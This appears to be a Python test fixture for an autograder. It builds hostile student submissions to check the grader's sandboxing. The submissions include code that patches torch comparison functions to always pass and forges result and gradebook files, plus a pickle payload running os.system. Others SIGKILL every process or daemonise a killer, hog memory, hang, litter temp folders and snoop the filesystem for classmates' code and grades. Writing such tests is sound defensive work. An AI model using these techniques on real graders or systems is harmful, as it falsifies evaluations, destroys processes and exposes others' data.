"""Hostile submissions for the batch tests: a correct, non-copied base (``tests/submissions/alt_loops``)
whose ``masks.py`` is replaced by one of the texts below. ``build(name, dest, **values)`` writes one;
``{values}`` in a text are filled in (paths the test owns, so nothing lands outside its tmp folder)."""

import shutil
from pathlib import Path

BASE = Path(__file__).resolve().parent.parent / "submissions" / "alt_loops"

CORRECT = (BASE / "masks.py").read_text(encoding="utf-8")
"""The base's own correct masks; each hostile text adds to or changes it."""

WRONG_PADDING = '''

def padding_mask(tokens, pad_idx):  # ignores the padding: a wrong answer the tampering should hide
    b, length = tokens.shape
    return torch.ones(b, 1, 1, length, dtype=torch.bool)
'''

TEXTS = {
    # Patches the comparison functions, forges result files wherever it guesses, sends back a tensor
    # subclass that would run code when unpickled, and leaves a process running.
    "tamper": CORRECT + WRONG_PADDING + '''
import json as _json
import os as _os
import subprocess as _sp
import sys as _sys
import torch.nn.functional as _F
from pathlib import Path as _Path

torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
_F.softmax = lambda x, *a, **k: x

_FAKE = {{"score": 999, "max_score": 10, "status": "ok", "student": "tamper", "tests": []}}
_here = _Path(__file__).resolve().parent
for _d in [_Path.cwd(), _Path.cwd().parent, _here, _here.parent, _here.parent.parent,
           _here.parent.parent / "out", _here.parent.parent / "out" / "tamper", _Path({guess!r})]:
    for _name in ("results.json", "record.json", "gradescope.json", "gradebook.csv"):
        try:
            _d.mkdir(parents=True, exist_ok=True)
            (_d / _name).write_text(_json.dumps(_FAKE))
        except OSError:
            pass


class _Evil(torch.Tensor):
    def __reduce_ex__(self, proto):
        return (_os.system, ("touch " + {marker!r},))


_causal = causal_mask


def causal_mask(size, device=None):
    _sp.Popen(["sleep", "{sleep}"], start_new_session=True)
    return _causal(size, device).as_subclass(_Evil)
''',
    # Reads the reference solution's file and runs it instead of its own (wrong) code.
    "peeker": CORRECT + WRONG_PADDING + '''
try:
    from grader.assignment import load as _load
    exec(open(_load().reference / "masks.py").read(), globals())
except Exception as _exc:
    print("could not read the reference:", _exc)
''',
    "exits": CORRECT + '''
import os as _os
import sys as _sys


def padding_mask(tokens, pad_idx):
    _os._exit(0)


def causal_mask(size, device=None):
    _sys.exit(0)
''',
    "hang": CORRECT + '''
import signal as _signal


def padding_mask(tokens, pad_idx):
    _signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
    while True:
        pass
''',
    "hog": CORRECT + '''
def padding_mask(tokens, pad_idx):
    chunks = []
    while True:
        chunks.append(b"x" * (32 << 20))
''',
    "spammer": CORRECT + '''
def padding_mask(tokens, pad_idx):
    while True:
        print("spam " * 200)
''',
    "banned": CORRECT + '''

def padding_mask(tokens, pad_idx):
    torch.nn.functional.scaled_dot_product_attention  # a banned API, even unused
    b, length = tokens.shape
    return tokens.ne(pad_idx).reshape(b, 1, 1, length)
''',
    "syntax": CORRECT + "\ndef padding_mask(tokens pad_idx):\n    return tokens\n",
    "buggy": CORRECT.replace("(cols <= rows)", "(cols < rows)"),
    # Signals every process it may (kill(-1)) for seconds on end: only ever run while the tests run as root,
    # where workers drop to unprivileged users; the other batch slot's worker must survive it.
    "killer": CORRECT + '''
import os as _os
import signal as _signal
import time as _time

_correct_padding_mask = padding_mask


def padding_mask(tokens, pad_idx):
    end = _time.monotonic() + 4
    while _time.monotonic() < end:
        try:
            _os.kill(-1, _signal.SIGKILL)
        except OSError:
            pass
        _time.sleep(0.002)
    return _correct_padding_mask(tokens, pad_idx)
''',
    # Double-forks a daemon in a session of its own, away from its folder, that SIGKILLs every pid it may for 40 s;
    # only ever run while the tests run as root (as an ordinary user it could kill the tests themselves).
    "daemon": CORRECT + '''
import os as _os
import time as _time

_correct_padding_mask = padding_mask
_started = []


def _kill_everything():
    end = _time.monotonic() + 40
    while _time.monotonic() < end:
        for pid in range(2, 1 << 16):
            if pid != _os.getpid():
                try:
                    _os.kill(pid, 9)
                except OSError:
                    pass
        _time.sleep(0.05)


def padding_mask(tokens, pad_idx):
    if not _started:
        _started.append(1)
        child = _os.fork()
        if child == 0:
            _os.setsid()
            if _os.fork() == 0:
                try:
                    _os.chdir("/")
                except OSError:
                    pass
                _kill_everything()
            _os._exit(0)
        _os.waitpid(child, 0)
    return _correct_padding_mask(tokens, pad_idx)
''',
    # Leaves files and shared memory wherever it can write, 8 MB each, then answers correctly.
    "litter": CORRECT + '''
import ctypes as _ctypes
import os as _os

_correct_padding_mask = padding_mask
_done = []


def _litter():
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run/lock", _os.getcwd(), _os.path.expanduser("~")):
        try:
            with open(_os.path.join(folder, f"litter-{_os.getpid()}"), "wb") as f:
                f.write(b"x" * (8 << 20))
        except OSError:
            pass
    try:
        libc = _ctypes.CDLL(None)
        libc.shmget(0, 1 << 20, 0o1666)  # IPC_PRIVATE | IPC_CREAT | 0666
    except OSError:
        pass


def padding_mask(tokens, pad_idx):
    if not _done:
        _done.append(1)
        _litter()
    return _correct_padding_mask(tokens, pad_idx)
''',
    # Looks for classmates' code, grades and the gradebook anywhere it can read and puts what it finds into its
    # own report (an exception's text and its prints).
    "snoop": CORRECT + '''
import os as _os


def _snoop():
    found = []
    here = _os.path.dirname(_os.path.abspath(__file__))
    starts = [_os.getcwd(), here] + [_os.path.abspath(_os.path.join(here, *[".."] * up)) for up in range(1, 6)]
    starts += ["/tmp", "/var/tmp", "/dev/shm", "/root", "/work", "/home", "/"]
    seen = 0
    for start in dict.fromkeys(starts):
        for folder, dirs, files in _os.walk(start):
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "lib", ".venv", ".git")]
            for name in files:
                seen += 1
                if seen > 200000:
                    return found
                path = _os.path.join(folder, name)
                try:
                    if _os.path.getsize(path) > 1 << 20:
                        continue
                    with open(path, "rb") as f:
                        data = f.read()
                except OSError:
                    continue
                if b"CLASSMATE_SECRET" in data or name in ("gradebook.csv", "results.json", "record.json"):
                    found.append(path + ": " + data[:300].decode("utf-8", "replace"))
    return found


def padding_mask(tokens, pad_idx):
    found = _snoop()
    print("SNOOPED", found)
    raise RuntimeError("SNOOPED " + repr(found)[:20000])
''',
    # Returns a 700 MB tensor: the judge must refuse it without holding it.
    "huge": CORRECT + '''

def padding_mask(tokens, pad_idx):
    return torch.zeros(700 << 20, dtype=torch.bool)
''',
    # Correct, but prints 5 MB three times on every call (past the 8 MB cap): printing is not a crime.
    "printer": CORRECT + '''
_correct_padding_mask = padding_mask


def padding_mask(tokens, pad_idx):
    for _ in range(3):
        print("chatty " * ((5 << 20) // 7))
    return _correct_padding_mask(tokens, pad_idx)
''',
}


def build(name, dest, **values):
    """Write hostile submission ``name`` into folder ``dest``; ``dest``."""
    dest = Path(dest)
    shutil.copytree(BASE, dest, ignore=shutil.ignore_patterns("__pycache__"))
    (dest / "masks.py").write_text(TEXTS[name].format(**values) if values else TEXTS[name], encoding="utf-8")
    return dest


RENAMED = ("x", "B", "L", "scores", "keep")


def near_copy(dest):
    """The reference with its local names changed and its docstrings and comments dropped."""
    import ast

    from grader.assignment import load

    assignment = load()
    dest = Path(dest)
    dest.mkdir(parents=True)
    for file in assignment.contract_files:
        tree = ast.parse((assignment.reference / file).read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            body = getattr(node, "body", None)
            if isinstance(body, list) and body and isinstance(body[0], ast.Expr) \
                    and isinstance(getattr(body[0], "value", None), ast.Constant) \
                    and isinstance(body[0].value.value, str):
                node.body = body[1:] or [ast.Pass()]
            if isinstance(node, ast.Name) and node.id in RENAMED:
                node.id = node.id + "_renamed"
            if isinstance(node, ast.arg) and node.arg in RENAMED:
                node.arg = node.arg + "_renamed"
        (dest / file).write_text(ast.unparse(tree) + "\n", encoding="utf-8")
    return dest
